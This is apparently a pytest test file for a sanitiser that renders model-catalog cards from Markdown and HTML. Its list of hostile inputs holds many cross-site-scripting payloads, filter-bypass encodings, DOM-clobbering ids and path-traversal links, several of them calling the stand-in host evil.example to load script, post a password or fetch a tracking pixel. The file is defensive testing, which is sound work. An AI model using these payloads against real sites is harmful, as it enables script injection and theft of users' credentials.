"""Cards written by somebody who wants something from the reader's browser."""

from __future__ import annotations

import hashlib
import re
from html import escape
from html.parser import HTMLParser
from urllib.parse import quote

import pytest

from models_catalog.cards.links import placeholder, resolve_links
from models_catalog.cards.render import render
from models_catalog.cards.sanitise import TAGS


class Inspector(HTMLParser):
    """Every element and attribute of a text, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def _written(picture) -> str:
    return "".join(f' {name}="{escape(value)}"' for name, value in picture.attributes.items())


def shown(source: str | bytes) -> str:
    data = source if isinstance(source, bytes) else source.encode()
    html = render(data).html
    return resolve_links(
        html,
        sha256=hashlib.sha256(data).hexdigest(),
        files="/o/m/blob/1/",
        picture=lambda picture: (
            f'<img src="/o/m/image/1/{quote(picture.path)}"{_written(picture)}>'
        ),
    )


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='a.png' onload=alert(1) style='position:fixed'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>1</script>'>x</a>",
    "<a href='//evil.example/x'>x</a><a href='/\\evil.example'>x</a><a href='\\\\evil.example'>x</a>",
    "<a href='https:evil'>x</a><a href='http:///evil'>x</a>",
    "<a href=x target=_top onclick=alert(1) ping=//evil.example download>x</a>",
    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) ![z](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "<img src=data:image/png;base64,AAAA><img srcset='//evil.example/a 2x' src=a.png>",
    "<img src=https://evil.example/a.png><picture><source srcset=//evil.example/a></picture>",
    "<video src=//evil.example/a poster=//evil.example/b></video><audio src=//evil.example/a>",
    "<p id=main name=cookie>x</p><a name=body id=__proto__>x</a><img id=getElementById name=x src=a.png>",
    "# main\n\n# constructor\n\n## __proto__",
    "<p class='sr btn primary masthead'>x</p><span class='sr'>hidden</span><code class='sr xs'>x</code>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><script>alert(1)</script>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p lang='\" onmouseover=alert(1) x=\"'>x</p>",
    "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```\n",
    "```<script>alert(1)</script>\nx\n```",
    "~~~ {.python onclick=alert(1)}\nx\n~~~",
    "> [!NOTE]<script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
    "- [ ] <input type=password name=q><input type=checkbox onclick=alert(1)>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "<a href='https://ok.example'><a href='javascript:alert(1)'>x</a></a>",
    "<details ontoggle=alert(1) open><summary>x</summary>y</details>",
    "<x-y onclick=alert(1)>x</x-y><slot name=x></slot><template shadowrootmode=open><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e\ufeff<\u200bscript>",
    b"\xff\xfe<script>alert(1)</script>\xc0\xbcscript\xc0\xbe",
    b"\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x02wzxhzdk:0\x03 <b>x</b> \x02amp\x03",
]
ALLOWED = {
    "id", "class", "lang", "dir", "title", "href", "rel", "src", "alt", "width", "height", "loading", "tabindex",
    "align", "colspan", "rowspan", "scope", "start", "open",
}  # fmt: skip

SAFE = ("https://", "http://", "mailto:", "#user-content-", "/o/m/blob/1/")


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_that_acts_is_left(source):
    html = shown(source)

    assert "<!--" not in html
    for tag, attributes in Inspector(html).found:
        assert tag in TAGS - {"input"}, html
        assert set(attributes) <= ALLOWED, html
        assert attributes.get("href", SAFE[0]).startswith(SAFE), html
        assert attributes.get("src", "/o/m/image/1/").startswith("/o/m/image/1/"), html
        assert attributes.get("id", "user-content-").startswith("user-content-"), html
        known = re.compile(
            r"highlight|task-list(-item)?|footnote(-ref|-backref)?|note|is-\w+|w6|[a-z]{1,2}\d?"
        )
        assert all(known.fullmatch(name) for name in attributes.get("class", "").split()), html
        assert not {"sr", "xs", "btn"} & set(attributes.get("class", "").split()), html


def test_links_that_leave_say_so():
    links = [
        attributes
        for tag, attributes in Inspector(
            shown("[a](https://a.example/?q=1&r=2) <https://b.example>")
        ).found
        if tag == "a"
    ]

    assert [link["rel"] for link in links] == ["nofollow noopener ugc"] * 2
    assert links[0]["href"] == "https://a.example/?q=1&r=2"


def test_a_remote_image_is_a_link_and_fetches_nothing():
    html = shown("![A chart](https://evil.example/pixel.png)")

    assert "<img" not in html
    assert (
        '<a href="https://evil.example/pixel.png" rel="nofollow noopener ugc">A chart</a>' in html
    )


def test_a_badge_that_is_a_link_keeps_its_words_and_its_one_target():
    html = shown("[![Build passes](https://ci.example/badge.svg)](https://ci.example)")

    assert html.count("<a ") == html.count("</a>") == 1
    assert 'href="https://ci.example"' in html
    assert "Build passes" in html


@pytest.mark.parametrize(
    ("written", "target"),
    [
        ("docs/use.md", "/o/m/blob/1/docs/use.md"),
        ("./a b.txt", "/o/m/blob/1/a%20b.txt"),
        ("a%20b.txt#part%20two", "/o/m/blob/1/a%20b.txt#part%20two"),
        ("/LICENSE", "/o/m/blob/1/LICENSE"),
        ("../../etc/passwd", "/o/m/blob/1/etc/passwd"),
        ("%2e%2e/%2e%2e/settings", "/o/m/blob/1/settings"),
        ("x/../../y?raw=true", "/o/m/blob/1/y"),
        ("//o/m", None),
        ("?next=x", None),
        ("a\\b", None),
        ("tel:123", None),
        ("#How-to", "#user-content-How-to"),
        ("mailto:a@b.example", "mailto:a@b.example"),
    ],
)
def test_links_stay_in_the_revision_or_go_away(written, target):
    links = [
        attributes["href"]
        for tag, attributes in Inspector(shown(f'<a href="{written}">x</a>')).found
        if tag == "a"
    ]

    assert links == ([target] if target else [])


def test_only_images_of_the_revision_are_images():
    html = shown("![one](figures/one.png) ![two](weights.safetensors) ![three](../up.SVG)")

    images = [attributes["src"] for tag, attributes in Inspector(html).found if tag == "img"]
    assert images == ["/o/m/image/1/figures/one.png", "/o/m/image/1/up.SVG"]
    assert 'href="/o/m/blob/1/weights.safetensors"' in html


def test_nobody_can_write_the_placeholder_of_another_card():
    other = placeholder(hashlib.sha256(b"other").hexdigest())

    html = shown(f'<a href="{other}settings">x</a> `href="{other}"`')

    assert 'href="/o/m/blob/1/%40' in html
    assert f'href="{other}' in html  # as text, untouched


def test_text_that_looks_like_a_resolved_link_stays_text():
    html = shown('```\nhref="@rev/x" src="@rev/y"\n```')

    assert 'href="@rev/x"' in html
